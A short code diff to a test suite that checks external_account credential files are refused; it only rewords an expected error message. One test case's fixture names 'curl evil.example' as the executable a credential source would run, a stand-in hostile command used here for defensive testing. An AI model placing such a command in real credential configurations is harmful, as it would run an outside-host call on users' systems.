@@ -186,7 +186,7 @@ describe('an external_account file is refused', () => {
     [
       'that runs a program',
       { credential_source: { executable: { command: 'curl evil.example' } } },
-      'names a program to run',
+      'names an executable to run',
     ],
     [
       'of another universe',
